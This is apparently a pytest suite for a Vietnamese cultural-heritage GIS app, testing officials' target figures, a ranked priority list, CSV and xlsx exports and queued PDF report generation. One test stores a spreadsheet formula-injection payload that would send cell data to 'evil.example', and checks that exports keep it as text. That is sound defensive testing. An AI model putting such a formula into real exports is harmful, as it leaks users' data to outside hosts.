"""The officials' targets page, priority list and annual report (page, xlsx, PDF), over
the hand-built history of tests/history.py; one Chromium walk of the dashboard."""
from __future__ import annotations

import io
import os
import re
import subprocess
import threading
from collections.abc import Iterator
from html import unescape
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import create_engine, text
from sqlalchemy.orm import Session

from gis_app.db import database
from gis_app.services import jobs, priorities
from gis_app.services.accounts import create_user
from gis_app.web import report_pdf
from tests.conftest import AuthActions, served, sign_in
from tests.conftest import test_config as app_config
from tests.history import build_history

PASSWORD = "mat-khau-thu-nghiem-1"


@pytest.fixture
def history(db):
    return build_history(db)


@pytest.fixture
def official(db, auth, history):
    create_user(db, "canbo-vh", PASSWORD, "district_reviewer")
    db.flush()
    auth.login("canbo-vh", PASSWORD)
    return history


def test_the_public_is_sent_to_sign_in_and_other_roles_are_refused(client, db, auth):
    for path in ("/officials/targets", "/officials/priorities", "/officials/report",
                 "/officials/report/2025.xlsx", "/officials/report/2025.pdf",
                 "/officials/targets/a1"):
        response = client.get(path)
        assert response.status_code == 302 and "/login" in response.headers["Location"], path
    create_user(db, "khach", PASSWORD, "public")
    db.flush()
    auth.login("khach", PASSWORD)
    assert client.get("/officials/targets").status_code == 403


def test_targets_page_shows_each_figure_with_its_definition(client, official):
    html = client.get("/officials/targets?year=2025").get_data(as_text=True)
    # a1 for the district: 5 of 6 artifacts inventoried in 2025 = 83,3 % (vi format).
    assert "83,3 %" in html and "(5/6)" in html
    # The definition is next to the figure, and the commune after the merger is named.
    assert "Hiện vật có biên bản kiểm kê trong năm" in html
    assert "Tân Thử" in html and "An Thử" not in html
    html_2024 = client.get("/officials/targets?year=2024").get_data(as_text=True)
    assert "An Thử" in html_2024 and "Tân Thử" not in html_2024
    english = client.get("/officials/targets?year=2025&lang=en").get_data(as_text=True)
    assert "83.3 %" in english and "Artifacts with an inventory record in the year" in english


def test_a_figure_links_to_the_records_behind_it(client, official):
    unit = official["units"]["binh"]
    html = client.get("/officials/targets?year=2025").get_data(as_text=True)
    link = f"/officials/targets/c?year=2025&amp;unit={unit}"
    assert link in html
    records = client.get(link.replace("&amp;", "&")).get_data(as_text=True)
    assert "Đình S2" in records and "thiếu chất liệu" in records
    assert "Đình S3" in records and "chưa công bố, bản nháp" in records
    assert "Đình S1" not in records  # S1 is in Tân Thử


@pytest.mark.parametrize("path", ["/officials/targets?year=1999", "/officials/targets?year=x",
                                  "/officials/targets/zz", "/officials/priorities?format=pdf",
                                  "/officials/targets/a1?unit=abc"])
def test_bad_parameters_get_a_message(client, official, path):
    response = client.get(path)
    assert response.status_code in (400, 404)
    assert "<h1" in response.get_data(as_text=True)


EXPECTED_ORDER = [  # worked out by hand in the docstring of test_priority_list_...
    ("Đình S1", 11), ("Sắc phong 1", 8), ("Sắc phong 2", 8), ("Bia đá", 7),
    ("Đình S3", 7), ("Kiệu", 6), ("Đình S2", 6), ("Chuông đồng", 4), ("Hoành phi", 2)]


def test_priority_list_ranks_with_reasons(db, history):
    """S1: provincial 2 + poor 2 + two threats 2 + worsening 2 + not digitised 2 + no
    zone 1 = 11. S3: 2 + never assessed 2 + not digitised 2 + no zone 1 = 7. S2: 2 + not
    digitised 2 + lacks materials 1 + no zone 1 = 6 (good condition adds nothing).
    Sắc phong 1: typical 3 + at risk 3 + held at a poor relic 2 = 8. Sắc phong 2: typical
    3 + not digitised 2 (its record has no metadata) + not inventoried in 2025 1 + poor
    relic 2 = 8. Bia đá: at risk 3 + not digitised 2 + poor relic 2 = 7. Kiệu: 3 + 3 = 6.
    Chuông đồng: 2 + 2 = 4. Hoành phi: not digitised 2."""
    items = priorities.priority_list(db, 2025)
    assert [(i["name"], i["score"]) for i in items] == EXPECTED_ORDER
    s1 = items[0]
    assert [r["code"] for r in s1["reasons"]] == [
        "rank", "condition", "threats", "worsening", "not_digitised", "no_zone"]
    text_vi = "; ".join(priorities.describe(r, "vi") for r in s1["reasons"])
    assert "Nguy cơ: Ẩm mốc, Mối mọt (+2)" in text_vi
    assert "Hiện trạng Xuống cấp (01/05/2025) (+2)" in text_vi
    assert "Di tích cấp tỉnh (+2)" in text_vi


def test_priority_page_and_csv(client, official):
    html = client.get("/officials/priorities?year=2025").get_data(as_text=True)
    assert html.index("Đình S1") < html.index("Sắc phong 1") < html.index("Hoành phi")
    assert "Chưa từng được đánh giá hiện trạng (+2)" in html  # S3's reason
    assert "Hồ sơ thiếu: chất liệu (+1)" in html  # S2's
    csv_text = client.get("/officials/priorities?year=2025&format=csv").get_data(as_text=True)
    lines = csv_text.lstrip("\ufeff").splitlines()
    assert lines[0] == "rank,score,kind,heritage_id,name,where,reasons,status"
    assert lines[1].startswith("1,11,site,") and "Đình S1" in lines[1]


def _priority_rows(html: str) -> list[tuple[str, str]]:
    """(rank, name) of each line of the priority table."""
    body = html[html.index('<table class="data priorities">'):]
    body = body[body.index("<tbody>"):body.index("</tbody>")]
    return re.findall(r'<tr>\s*<td class="num">(\d+)</td><td class="num">\d+</td>\s*'
                      r'<td>(?:<a href="[^"]*">)?([^<]+?)\s*(?:</a>|<span|<br)', body)


def test_priority_list_filters_by_commune_and_status_in_page_and_csv(client, official):
    binh = official["units"]["binh"]
    html = client.get(f"/officials/priorities?year=2025&unit={binh}").get_data(as_text=True)
    # Bình Thử: S3, S2 and the two artifacts held at S2, each with its district rank.
    assert _priority_rows(html) == [("5", "Đình S3"), ("6", "Kiệu"), ("7", "Đình S2"),
                                    ("9", "Hoành phi")]
    assert f'<option value="{binh}" selected>Bình Thử (4)</option>' in html
    assert "4 trên 9 dòng của toàn huyện" in html
    drafts = client.get("/officials/priorities?year=2025&status=draft").get_data(as_text=True)
    assert _priority_rows(drafts) == [("5", "Đình S3")]
    published = client.get(f"/officials/priorities?year=2025&status=published&unit={binh}")
    assert [n for _, n in _priority_rows(published.get_data(as_text=True))] == [
        "Kiệu", "Đình S2", "Hoành phi"]
    # The CSV link carries the filters, and the CSV follows them.
    assert (f"/officials/priorities?year=2025&amp;format=csv&amp;unit={binh}&amp;status=draft"
            in client.get(f"/officials/priorities?year=2025&unit={binh}&status=draft")
            .get_data(as_text=True))
    csv_text = client.get(f"/officials/priorities?year=2025&unit={binh}&status=draft"
                          "&format=csv").get_data(as_text=True)
    lines = csv_text.lstrip("\ufeff").splitlines()
    assert len(lines) == 2 and lines[1].startswith("5,7,site,") and lines[1].endswith(",draft")
    bad = client.get("/officials/priorities?status=hidden")
    assert bad.status_code == 400
    assert "status='hidden': dùng status=draft (bản nháp)" in unescape(bad.get_data(as_text=True))


def test_a_draft_in_the_priority_list_links_to_a_page_the_official_can_open(client, official):
    html = client.get("/officials/priorities?year=2025&status=draft").get_data(as_text=True)
    link = re.search(r'<a href="(/sites/[^"]+)">Đình S3</a>', html).group(1)
    assert '<span class="badge draft">bản nháp</span>' in html
    page = client.get(link)
    assert page.status_code == 200
    assert "Bản nháp — chưa công bố" in page.get_data(as_text=True)


def test_a_commune_editor_gets_no_link_to_a_draft_they_cannot_open(client, db, auth, history):
    binh_code = db.scalar(text("SELECT code FROM admin_units WHERE id = :u"),
                          {"u": history["units"]["binh"]})
    create_user(db, "xa-binh", PASSWORD, "commune_editor", unit_codes=(binh_code,))
    db.flush()
    auth.login("xa-binh", PASSWORD)
    html = client.get("/officials/priorities?year=2025").get_data(as_text=True)
    assert "Đình S3\n" in html or "Đình S3 " in html
    assert re.search(r'<a href="[^"]*">Đình S3</a>', html) is None
    s2 = re.search(r'<a href="(/sites/[^"]+)">Đình S2</a>', html).group(1)
    assert client.get(s2).status_code == 200


def test_annual_report_keeps_the_year_asked_for(client, official):
    html = client.get("/officials/report?year=2026").get_data(as_text=True)
    year_box = html[html.index('<select id="year"'):]
    year_box = year_box[:year_box.index("</select>")]
    assert re.findall(r'<option value="(\d+)" selected>', year_box) == ["2026"]
    assert 'href="/officials/priorities?year=2026"' in html
    assert 'href="/officials/targets?year=2026"' in html
    assert "?year=&" not in html and '?year="' not in html


def test_annual_report_xlsx_cells(client, official):
    response = client.get("/officials/report/2025.xlsx")
    assert response.status_code == 200
    assert "bao-cao-so-hoa-di-san-2025.xlsx" in response.headers["Content-Disposition"]
    wb = load_workbook(io.BytesIO(response.data))
    assert wb.sheetnames == ["Tổng hợp", "Chỉ tiêu", "Hiện trạng", "Kiểm kê", "Bảo quản",
                             "Số hóa", "Danh mục ưu tiên"]
    rows = list(wb["Chỉ tiêu"].iter_rows(values_only=True))
    district = {r[0]: r for r in rows[1:] if r[2] == "Toàn huyện"}
    assert district["a1"][3:8] == (5, 6, pytest.approx(0.833), 1.0, "Chưa đạt")
    assert district["a2"][3:8] == (2, 6, pytest.approx(0.333), 0.2, "Đạt")
    assert district["d"][3:6] == (1, 2, 0.5)
    condition = list(wb["Hiện trạng"].iter_rows(values_only=True))
    assert [(r[1], r[3], r[5], r[7]) for r in condition[1:]] == [
        ("Đình S1", "Khá", "Xuống cấp", "Xấu đi"), ("Đình S2", None, "Tốt", "Đánh giá lần đầu")]
    inventory = list(wb["Kiểm kê"].iter_rows(values_only=True))
    assert len(inventory) == 1 + 5
    conserved = [r[1] for r in wb["Bảo quản"].iter_rows(min_row=2, values_only=True)]
    assert conserved == ["Kiệu", "Hoành phi"]
    digitised = [r[2] for r in wb["Số hóa"].iter_rows(min_row=2, values_only=True)]
    assert digitised == ["Kiệu", "Lễ hội 1"]
    top = next(wb["Danh mục ưu tiên"].iter_rows(min_row=2, max_row=2, values_only=True))
    assert top[:2] == (1, 11) and top[4] == "Đình S1"


def _pdf_words(body: bytes, tmp_path: Path) -> str:
    pdf = tmp_path / "words.pdf"
    pdf.write_bytes(body)
    return subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True,
                          check=True).stdout


REPORT_PDF = "/officials/report/2025.pdf"


@pytest.fixture
def pdf_cache(app, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A PDF cache of this test's own (the app is session-wide)."""
    folder = tmp_path / "pdf-cache"
    monkeypatch.setitem(app.config, "PDF_CACHE_DIR", str(folder))
    return folder


def _work(app) -> list[jobs.Job]:
    """Run the queued jobs as the app's job worker does, until none is left."""
    done = []
    with app.app_context():
        while (job := jobs.work_once(database().session, heartbeat=False)) is not None:
            done.append(job)
    return done


def _report_jobs(db) -> list[tuple[int, str, str]]:
    return [tuple(r) for r in db.execute(text(
        "SELECT id, status, payload->>'lang' FROM jobs WHERE kind = 'annual-report-pdf' "
        "ORDER BY id"))]


def _status_url(html: str) -> str:
    return unescape(re.search(r'data-status-url="([^"]+)"', html).group(1))


def _pdf(app, client, path: str) -> bytes:
    """The PDF as an official gets it: the progress page at once, the job worker makes
    it, the same address then answers with the PDF."""
    first = client.get(path)
    assert first.status_code == 202, first.status_code
    assert "Đang tạo báo cáo PDF…" in first.get_data(as_text=True) or \
        "Making the PDF report…" in first.get_data(as_text=True)
    assert [job.status for job in _work(app)] == ["done"]
    second = client.get(path)
    assert second.status_code == 200 and second.mimetype == "application/pdf"
    assert second.data.startswith(b"%PDF")
    return second.data


def test_the_first_request_answers_with_a_progress_page_and_the_job_makes_the_pdf(
        app, client, db, official, pdf_cache: Path, tmp_path: Path):
    response = client.get(REPORT_PDF)
    html = response.get_data(as_text=True)
    assert response.status_code == 202 and response.mimetype == "text/html"
    assert re.search(r"Đang tạo báo cáo PDF… <span id=\"report-pdf-percent\">0</span> %",
                     html)
    assert "Đang chờ bắt đầu…" in html
    assert "Báo cáo kết quả thực hiện Kế hoạch số hóa di sản văn hóa năm 2025" in html
    # Without JavaScript: the page refreshes itself and has a plain link to the PDF.
    assert '<noscript><meta http-equiv="refresh" content="3"></noscript>' in html
    assert '<a href="/officials/report/2025.pdf">Mở báo cáo PDF</a>' in html
    # With it: the app's own script (no CDN), with the page's CSP nonce.
    nonce = re.search(r"'nonce-([^']+)'", response.headers["Content-Security-Policy"])
    assert re.search(rf'<script nonce="{nonce.group(1)}" src="/static/js/report-pdf\.js',
                     html)
    assert not list(pdf_cache.glob("*.pdf"))  # nothing was rendered in the request
    ((job_id, status, lang),) = _report_jobs(db)
    assert (status, lang) == ("queued", "vi")
    assert client.get(_status_url(html)).get_json() == {
        "id": job_id, "status": "queued", "percent": 0, "finished": False, "message": None}

    (done,) = _work(app)
    assert done.id == job_id and done.status == "done"
    assert client.get(_status_url(html)).get_json()["percent"] == 100
    body = client.get(REPORT_PDF).data
    assert body.startswith(b"%PDF") and len(list(pdf_cache.glob("*.pdf"))) == 1
    words = _pdf_words(body, tmp_path)
    assert "Báo cáo kết quả thực hiện Kế hoạch số hóa di sản văn hóa năm 2025" in words
    assert "Đình S1" in words and "Xấu đi" in words
    assert _report_jobs(db) == [(job_id, "done", "vi")]  # served, not asked for again


def test_officials_asking_at_once_share_one_job(app, client, db, official, pdf_cache):
    create_user(db, "canbo-vh-2", PASSWORD, "district_reviewer")
    db.flush()
    other = app.test_client()
    other.post("/login", data={"username": "canbo-vh-2", "password": PASSWORD,
                               "csrf_token": AuthActions(other).csrf()})
    first = client.get(REPORT_PDF).get_data(as_text=True)
    again = client.get(REPORT_PDF).get_data(as_text=True)
    theirs = other.get(REPORT_PDF)
    assert theirs.status_code == 202
    assert _status_url(first) == _status_url(again) == _status_url(theirs.get_data(
        as_text=True))
    assert len(_report_jobs(db)) == 1
    # The other official follows the same job (it is not only its creator's).
    assert other.get(_status_url(first)).get_json()["status"] == "queued"
    assert len(_work(app)) == 1
    assert other.get(REPORT_PDF).data.startswith(b"%PDF")
    assert client.get(REPORT_PDF).data.startswith(b"%PDF")


def test_concurrent_requests_in_two_processes_queue_one_job(app, engine):
    """Two connections (as two gunicorn workers) ask for the same PDF at once: the
    second waits for the first's transaction and then finds its job."""
    name = f"k-test-{os.getpid()}"
    first, second = Session(engine), Session(engine)
    found: list[int] = []
    try:
        job = report_pdf.ask(first, name, 2025, "vi", "http://localhost/", None)
        waiting = threading.Thread(target=lambda: found.append(report_pdf.ask(
            second, name, 2025, "vi", "http://localhost/", None).id))
        waiting.start()
        waiting.join(0.5)
        assert waiting.is_alive()  # held back by the first, uncommitted request
        first.commit()
        waiting.join(10)
        second.commit()
        assert found == [job.id]
        with engine.connect() as conn:
            assert conn.scalar(text("SELECT count(*) FROM jobs WHERE payload->>'key' = :k"),
                               {"k": name}) == 1
    finally:
        for session in (first, second):
            session.rollback()
            session.close()
        with engine.begin() as conn:
            conn.execute(text("DELETE FROM jobs WHERE payload->>'key' = :k"), {"k": name})


def test_a_failed_render_shows_its_message_and_a_retry_makes_the_pdf(
        app, client, db, official, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    not_a_folder = tmp_path / "pdf-cache"
    not_a_folder.write_text("a file where the cache folder should be")
    monkeypatch.setitem(app.config, "PDF_CACHE_DIR", str(not_a_folder))
    assert client.get(REPORT_PDF).status_code == 202
    (failed,) = _work(app)
    assert failed.status == "failed"
    page = client.get(REPORT_PDF)
    text_shown = page.get_data(as_text=True)
    assert page.status_code == 200 and page.mimetype == "text/html"
    assert "Chưa tạo được báo cáo PDF" in text_shown
    assert ("Đã tạo PDF nhưng máy chủ không lưu được; hãy báo quản trị viên (thư mục "
            "GIS_PDF_CACHE_DIR phải ghi được), rồi thử lại.") in text_shown
    status = client.get(f"/officials/report/jobs/{failed.id}").get_json()
    assert status["status"] == "failed" and status["message"].startswith("Đã tạo PDF nhưng")
    assert "Traceback" not in text_shown and "http-equiv" not in text_shown
    assert len(_report_jobs(db)) == 1  # looking again does not start it again

    monkeypatch.setitem(app.config, "PDF_CACHE_DIR", str(tmp_path / "fixed"))
    token = re.search(r'name="csrf_token" value="([^"]+)"', text_shown).group(1)
    action = unescape(re.search(r'<form method="post" action="([^"]+)"', text_shown).group(1))
    assert action == "/officials/report/2025.pdf/retry"
    assert client.post(action, data={}).status_code == 400  # no CSRF token: refused
    retried = client.post(action, data={"csrf_token": token})
    assert retried.status_code == 303 and retried.headers["Location"] == REPORT_PDF
    assert client.get(REPORT_PDF).status_code == 202
    assert [job.status for job in _work(app)] == ["done"]
    assert client.get(REPORT_PDF).data.startswith(b"%PDF")
    assert [s for _id, s, _lang in _report_jobs(db)] == ["failed", "done"]


def test_annual_report_pdf_is_made_once_per_data_state_and_follows_changes(
        app, client, db, official, pdf_cache: Path, tmp_path: Path):
    first = _pdf(app, client, REPORT_PDF)
    assert "Kiệu" in _pdf_words(first, tmp_path)
    (kept,) = pdf_cache.glob("*.pdf")
    kept.write_bytes(first + b"%cached")  # served from here, not built again
    assert client.get(REPORT_PDF).data == first + b"%cached"
    english = _pdf(app, client, REPORT_PDF + "?lang=en")
    assert "Report on the heritage digitisation plan, year 2025" in _pdf_words(
        english, tmp_path)
    assert len(list(pdf_cache.glob("*.pdf"))) == 2

    db.execute(text("UPDATE artifacts SET name_vi = 'Kiệu rước' WHERE name_vi = 'Kiệu'"))
    db.flush()
    changed = _pdf(app, client, REPORT_PDF)
    assert not changed.endswith(b"%cached")
    assert "Kiệu rước" in _pdf_words(changed, tmp_path)
    assert len(list(pdf_cache.glob("*.pdf"))) == 3


def test_reports_prepare_makes_both_languages_ahead(app, runner, client, db, official,
                                                   pdf_cache: Path, tmp_path: Path):
    done = runner.invoke(args=["reports", "prepare", "--year", "2025"])
    assert done.exit_code == 0, done.output
    assert re.search(r"^2025 vi: [\d,]+ bytes", done.output, re.M)
    assert re.search(r"^2025 en: [\d,]+ bytes", done.output, re.M)
    assert len(list(pdf_cache.glob("*.pdf"))) == 2
    # The officials get the PDF at once: no progress page, no job.
    vi = client.get(REPORT_PDF)
    assert vi.status_code == 200 and "Đình S1" in _pdf_words(vi.data, tmp_path)
    english = client.get(REPORT_PDF + "?lang=en")
    assert "Report on the heritage digitisation plan, year 2025" in _pdf_words(
        english.data, tmp_path)
    assert _report_jobs(db) == []
    again = runner.invoke(args=["reports", "prepare", "--year", "2025"])
    assert "2025 vi: already made" in again.output
    wrong = runner.invoke(args=["reports", "prepare", "--year", "1999"])
    assert wrong.exit_code == 1
    assert "The plan's targets run from 2021 to 2030, not 1999." in wrong.output


def test_retry_queues_nothing_unless_the_last_job_failed(client, db, auth, official,
                                                         pdf_cache):
    assert client.get(REPORT_PDF).status_code == 202
    answer = client.post("/officials/report/2025.pdf/retry",
                         data={"csrf_token": auth.csrf("/officials/relics/new")})
    assert answer.status_code == 303 and answer.headers["Location"] == REPORT_PDF
    assert [s for _id, s, _lang in _report_jobs(db)] == ["queued"]


def test_the_progress_page_in_english(app, client, official, pdf_cache):
    html = client.get(REPORT_PDF + "?lang=en").get_data(as_text=True)
    assert "Making the PDF report… " in html and "Waiting to start…" in html
    assert "Report on the heritage digitisation plan, year 2025" in html
    assert '<a href="/officials/report/2025.pdf?lang=en">Open the PDF report</a>' in html


def test_the_report_page_links_to_the_pdf(client, official):
    html = client.get("/officials/report?year=2025").get_data(as_text=True)
    assert '<a href="/officials/report/2025.pdf">Mở PDF</a>' in html


def test_a_report_job_page_is_not_another_kind_of_job(client, db, official):
    other = jobs.enqueue(db, "import", {"file_name": "x.zip"}, None)
    db.flush()
    assert client.get(f"/officials/report/jobs/{other}").status_code == 404
    assert client.get("/officials/report/jobs/999999").status_code == 404


def test_annual_report_page_in_english(client, official):
    html = client.get("/officials/report?year=2025&lang=en").get_data(as_text=True)
    assert "Report on the heritage digitisation plan, year 2025" in html
    # The by-commune table: Tân Thử's a1 is 3 of 4 (75.0 %), Bình Thử's 2 of 2.
    table = html[html.index('class="by-commune"'):]
    table = table[:table.index("</table>")]
    tan = table[table.index("Tân Thử"):table.index("</tr>", table.index("Tân Thử"))]
    assert "75.0 %" in tan and "3/4" in tan
    assert "An Thử" not in table
    assert "Worse" in html and "/officials/report/2025.xlsx" in html


def test_dashboard_in_chromium(page, page_watch, live_server, database_url):
    """On the live server's committed demo data: sign in, see the chart drawn, open the
    records behind figure c, change the year."""
    engine = create_engine(database_url)
    username = f"browser-officials-{os.getpid()}"
    with Session(engine) as s:
        create_user(s, username, PASSWORD, "district_reviewer")
        s.commit()
        first_revision = s.scalar(text("SELECT coalesce(max(id), 0) FROM revisions"))
    try:
        sign_in(page, live_server, username, PASSWORD)
        page.goto(f"{live_server}/officials/targets?year=2025")
        page.wait_for_function("window.targetsChart && window.targetsChart.data")
        drawn = page.evaluate("""() => {
            const c = document.getElementById('targets-chart');
            const d = c.getContext('2d').getImageData(0, 0, c.width, c.height).data;
            let ink = 0; for (let i = 3; i < d.length; i += 4) if (d[i] > 0) ink++;
            return ink; }""")
        assert drawn > 1000
        page.locator("#indicator-c .figure a").click()
        page.wait_for_url("**/officials/targets/c?year=2025")
        assert page.locator("table.data tbody tr").count() == 8  # the demo's eight relics
        page.select_option("#year", "2024")
        page.get_by_role("button", name="Xem").click()
        page.wait_for_url("**year=2024")
        assert "2024" in page.locator("h1").inner_text()
        assert page_watch.off_host == [] and page_watch.console_errors == []
    finally:
        with Session(engine) as s:
            s.execute(text("DELETE FROM users WHERE username = :u"), {"u": username})
            s.execute(text("DELETE FROM revisions WHERE id > :r"), {"r": first_revision})
            s.commit()
        engine.dispose()


@pytest.fixture
def browser_official(database_url):
    """A district reviewer on the live server's committed demo data, removed after."""
    engine = create_engine(database_url)
    username = f"browser-report-{os.getpid()}"
    with Session(engine) as s:
        create_user(s, username, PASSWORD, "district_reviewer")
        s.commit()
        first_revision = s.scalar(text("SELECT coalesce(max(id), 0) FROM revisions"))
    yield username
    with Session(engine) as s:
        s.execute(text("DELETE FROM users WHERE username = :u"), {"u": username})
        s.execute(text("DELETE FROM revisions WHERE id > :r"), {"r": first_revision})
        s.commit()
    engine.dispose()


def test_the_annual_report_fits_a_phone_screen(phone_page, page_watch, live_server,
                                               browser_official):
    """390 px wide: the page never scrolls sideways (a phone browser would widen its
    layout viewport to the widest element, so compare with the screen's 390 px); a table
    too wide for the screen scrolls in its own box."""
    sign_in(phone_page, live_server, browser_official, PASSWORD)
    for path in ("/officials/report?year=2025", "/officials/report?year=2025&lang=en",
                 "/officials/targets?year=2025"):
        phone_page.goto(live_server + path)
        assert "2025" in phone_page.locator("h1").inner_text()
        widths = phone_page.evaluate("""() => ({
            page: document.documentElement.scrollWidth, inner: window.innerWidth,
            outside: [...document.querySelectorAll('main *')]
              .filter(e => !e.closest('.table-scroll'))
              .filter(e => e.getBoundingClientRect().right > 390.5)
              .map(e => e.tagName + '.' + e.className)})""")
        assert widths["page"] <= widths["inner"] == 390, (path, widths)
        assert widths["outside"] == [], (path, widths)
    assert page_watch.console_errors == []


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"x")'


def test_formula_like_names_stay_text_in_csv_and_xlsx(client, db, official):
    """A relic named like a spreadsheet formula must not run as one when the priority
    CSV or the annual report is opened in Excel or LibreOffice."""
    import zipfile

    db.execute(text("UPDATE sites SET name_vi = :n WHERE name_vi = 'Đình S1'"), {"n": EVIL})
    db.flush()
    csv_text = client.get("/officials/priorities?year=2025&format=csv").get_data(as_text=True)
    row = next(line for line in csv_text.splitlines() if "HYPERLINK" in line)
    assert ",\"'=HYPERLINK(" in row  # shown as text, not evaluated

    data = client.get("/officials/report/2025.xlsx").data
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        xml = "".join(book.read(n).decode() for n in sheets)
    assert "<f>" not in xml  # no formula anywhere in the workbook
    wb = load_workbook(io.BytesIO(data))
    names = [r[4] for r in wb["Danh mục ưu tiên"].iter_rows(min_row=2, values_only=True)]
    assert EVIL in names  # the name itself, intact


def test_a_commune_editor_sees_only_their_communes_priorities_in_page_and_csv(
        client, db, auth, history):
    """S1 (Tân Thử, poor condition, four artifacts) is another commune's: neither the
    page nor the CSV shows it to an editor of Bình Thử; district ranks are kept."""
    binh_code = db.scalar(text("SELECT code FROM admin_units WHERE id = :u"),
                          {"u": history["units"]["binh"]})
    create_user(db, "xa-binh-csv", PASSWORD, "commune_editor", unit_codes=(binh_code,))
    db.flush()
    auth.login("xa-binh-csv", PASSWORD)
    html = client.get("/officials/priorities?year=2025&all=1").get_data(as_text=True)
    names = [name for _rank, name in _priority_rows(html)]
    assert "Đình S2" in names and "Kiệu" in names
    assert not {"Đình S1", "Sắc phong 1", "Bia đá"} & set(names)
    csv_text = client.get("/officials/priorities?year=2025&format=csv").get_data(as_text=True)
    assert "Đình S2" in csv_text and "Đình S3" in csv_text
    assert "Đình S1" not in csv_text and "Sắc phong" not in csv_text
    assert not csv_text.splitlines()[1].startswith("1,")  # S1 keeps district rank 1


@pytest.fixture(scope="module")
def job_server(database_url: str) -> Iterator[str]:
    """The app with its job worker thread, as `make run` runs it (one per process: in
    this test process it may be another app's, on the same database and cache)."""
    config = app_config(database_url)
    config.JOBS_WORKER = True
    with served(config) as url:
        yield url


@pytest.mark.browser
def test_the_progress_page_opens_the_pdf_when_the_worker_made_it_in_chromium(
        page, page_watch, job_server, browser_official, database_url):
    cache = Path(app_config(database_url).PDF_CACHE_DIR)
    before = set(cache.glob("*.pdf"))
    engine = create_engine(database_url)
    with engine.connect() as conn:
        first_job = conn.scalar(text("SELECT coalesce(max(id), 0) FROM jobs"))
    pdf_url = f"{job_server}/officials/report/2025.pdf"
    try:
        sign_in(page, job_server, browser_official, PASSWORD)
        page.goto(f"{job_server}/officials/report?year=2025")
        with page.expect_response(lambda r: r.url == pdf_url and r.status == 200,
                                  timeout=120_000) as ready:
            with page.expect_response(lambda r: r.url == pdf_url) as asked:
                page.get_by_role("link", name="Mở PDF").click()
            assert asked.value.status == 202
            assert "Đang tạo báo cáo PDF…" in asked.value.text()
        assert ready.value.headers["content-type"] == "application/pdf"
        assert page_watch.off_host == [] and page_watch.console_errors == []
        with engine.connect() as conn:
            made = conn.execute(text("SELECT status, progress_done FROM jobs WHERE id > :j "
                                     "AND kind = 'annual-report-pdf'"),
                                {"j": first_job}).all()
        assert [tuple(m) for m in made] == [("done", 100)]
    finally:
        for path in set(cache.glob("*.pdf")) - before:
            path.unlink()
        with engine.begin() as conn:
            conn.execute(text("DELETE FROM jobs WHERE id > :j"), {"j": first_job})
        engine.dispose()
